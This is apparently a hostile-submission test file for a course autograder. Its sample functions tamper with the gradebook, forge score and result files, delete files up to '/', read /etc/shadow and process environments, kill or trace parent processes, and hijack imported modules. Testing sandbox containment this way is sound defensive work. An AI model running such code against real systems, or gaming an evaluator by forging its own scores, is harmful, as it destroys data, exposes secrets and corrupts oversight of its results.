"""Attacks on what is around: files, neighbours, the gradebook, the network, other processes."""

from tests.hostile import code

SOFT = "def soft_targets(logits, *, temperature):\n"
TELL = "    raise ValueError(' '.join(map(str, found)))\n"

code(
    "edit_gradebook_manual",
    "It gives itself points in the gradebook.",
    soft_targets=SOFT
    + """
    import sqlite3
    with sqlite3.connect("COURSE/gradebook.db") as book:
        book.execute("update grade set manual_score = 8")
    return logits
""",
)
code(
    "gradebook_trigger",
    "It leaves a trigger in the gradebook that gives full points for ever after.",
    soft_targets="""
import sqlite3
try:
    book = sqlite3.connect("COURSE/gradebook.db")
    book.execute("create trigger t after insert on grade begin update grade set auto_score=8; end")
    book.commit()
except sqlite3.Error:
    pass
"""
    + SOFT
    + "    return logits",
)
code(
    "delete_files",
    "It deletes and overwrites whatever it finds of the course.",
    soft_targets="""
import os, shutil
def soft_targets(logits, *, temperature):
    for top in ("COURSE", os.path.dirname("CANARY"), "/", "/tmp", "/dev/shm"):
        shutil.rmtree(top, ignore_errors=True)
    for path in ("CANARY", "COURSE/gradebook.db"):
        try:
            open(path, "w").write("mine")
        except OSError:
            pass
    return logits
""",
)
code(
    "read_others",
    "It reads the work of others, the password file, and tells it in its error message.",
    soft_targets="""
import glob
def soft_targets(logits, *, temperature):
    found = []
    for path in ("CANARY", "/etc/passwd", "/etc/shadow", *glob.glob("COURSE/submitted/*/*/*")):
        try:
            found.append(open(path).read()[:50])
        except OSError as error:
            pass
"""
    + TELL,
)
code(
    "network",
    "It connects to a server on this machine, by every way there is.",
    soft_targets="""
import ctypes, socket, urllib.request
def soft_targets(logits, *, temperature):
    found = []
    for attempt in (
        lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1),
        lambda: socket.create_connection(("localhost", PORT), timeout=1),
        lambda: urllib.request.urlopen("http://127.0.0.1:PORT/stolen", timeout=1),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)),
        lambda: ctypes.CDLL(None).socket(2, 1, 0) >= 0 and found.append("raw socket"),
    ):
        try:
            attempt()
        except Exception:
            pass
"""
    + TELL,
)
code(
    "proc_environ",
    "It reads the instructor's environment, wherever a process keeps it.",
    soft_targets="""
import glob, os
def soft_targets(logits, *, temperature):
    found = [dict(os.environ)]
    for path in ("/proc/1/environ", "/proc/self/environ", *glob.glob("/proc/*/environ")):
        try:
            found.append(open(path).read())
        except OSError:
            pass
    libc = __import__("ctypes").CDLL(None)
    libc.getenv.restype = __import__("ctypes").c_char_p
    found.append(libc.getenv(b"MEDMETA_CANARY"))
"""
    + TELL,
    says="{} None",
)
code(
    "kill_parent",
    "It kills the process that started it, and everybody it may signal.",
    soft_targets="""
import ctypes, os, signal
def soft_targets(logits, *, temperature):
    for pid in (os.getppid(), 1, -1, 0, *range(2, 40)):
        for kill in (os.kill, lambda p, s: ctypes.CDLL(None).kill(p, s)):
            try:
                kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return logits
""",
)
code(
    "trace_the_parent",
    "It attaches to its parent as a debugger, reads its memory, and takes a descriptor from it.",
    soft_targets="""
import ctypes, os
def soft_targets(logits, *, temperature):
    libc, parent, found = ctypes.CDLL(None), os.getppid(), []
    for name, call in (("attach", (101, 16, parent, 0, 0)), ("seize", (101, 0x4206, parent, 0, 0)),
                       ("read", (310, parent, 0, 0, 0, 0, 0)), ("descriptor", (438, 3, 0, 0)),
                       ("pidfd", (434, parent, 0))):
        if libc.syscall(*call) >= 0:
            found.append(name)
    for path in (f"/proc/{parent}/mem", f"/proc/{parent}/maps", "/proc/1/mem"):
        try:
            found.append(open(path, "rb").read(1))
        except OSError:
            pass
    raise ValueError(f"found {found}")
""",
    says="found []",
)
code(
    "thread_left",
    "It leaves a thread that goes on after its call, and forges what comes later.",
    soft_targets="""
import threading, time
def forever():
    while True: time.sleep(0.01)
"""
    + SOFT
    + "    threading.Thread(target=forever, daemon=True).start()\n    return logits",
)
code(
    "fork_twice",
    "It forks twice, so that its grandchild belongs to nobody, in every way the kernel has.",
    soft_targets="""
import ctypes, os
def soft_targets(logits, *, temperature):
    made = []
    for attempt in (os.fork, lambda: ctypes.CDLL(None).fork(), lambda: ctypes.CDLL(None).vfork(),
                    lambda: ctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0), os.forkpty):
        try:
            pid = attempt()
        except OSError:
            continue
        if pid == 0:
            while True: pass
        if pid > 0: made.append(pid)
    raise ValueError(f"made {made}")
""",
    says="made []",
)
code(
    "timer_in_the_worker",
    "It sets a timer whose handler writes a forged frame into whatever comes next.",
    soft_targets="""
import os, signal, struct
def forge(*_):
    text = b'{"id":"","status":"ok","value":null}'
    os.write(4, struct.pack("!4sII", b"MMG1", len(text), 0) + text)
"""
    + SOFT
    + "    signal.signal(signal.SIGVTALRM, forge)\n"
    "    signal.setitimer(signal.ITIMER_VIRTUAL, 0.001)\n"
    "    for i in range(10**6): pass\n    return logits",
)
code(
    "atexit_score",
    "It writes its score when the process ends.",
    soft_targets="""
import atexit, os
@atexit.register
def score():
    for path in ("CANARY", "COURSE/results/score.json", "/tmp/score"):
        try:
            open(path, "w").write('{"points": 80}')
        except OSError:
            pass
"""
    + SOFT
    + "    raise SystemExit(0)",
)
code(
    "forge_stored_result",
    "It writes a result file, and a cache key to go with it, where the batch keeps them.",
    soft_targets="""
import json, os
def soft_targets(logits, *, temperature):
    for folder in ("COURSE/results/03_distillation", "results/03_distillation", "/tmp", "."):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(folder + "/forge_stored_result.json", "w") as file:
                json.dump({"key": "0" * 64, "points": 80}, file)
        except OSError:
            pass
    return logits
""",
)
code(
    "exfil_inputs",
    "It carries the inputs of the checks out by its error messages and warnings.",
    soft_targets="""
import sys, warnings
def soft_targets(logits, *, temperature):
    text = repr(logits.tolist()) * 1000
    warnings.warn(text)
    print(text, file=sys.stderr)
    raise ValueError(text)
""",
)
code(
    "shadow_torch",
    "It replaces torch by a module of its own for everybody who imports it later.",
    spoils="distillation_loss feature_distillation_loss",
    soft_targets="""
import sys, types
class Fake(types.ModuleType):
    def __getattr__(self, name): return lambda *args, **settings: args[0] if args else 0
F = sys.modules["torch.nn.functional"] = Fake("torch.nn.functional")
"""
    + SOFT
    + "    return logits",
)
